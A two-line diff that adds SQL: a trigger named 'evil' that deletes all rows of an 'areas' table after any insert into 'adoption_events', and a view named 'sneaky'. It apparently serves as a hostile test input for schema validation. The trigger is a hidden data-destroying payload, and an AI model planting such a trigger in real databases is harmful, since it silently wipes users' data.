@@ -1,0 +1,2 @@
+CREATE TRIGGER evil AFTER INSERT ON adoption_events BEGIN DELETE FROM areas; END;
+CREATE VIEW sneaky AS SELECT fid FROM areas;
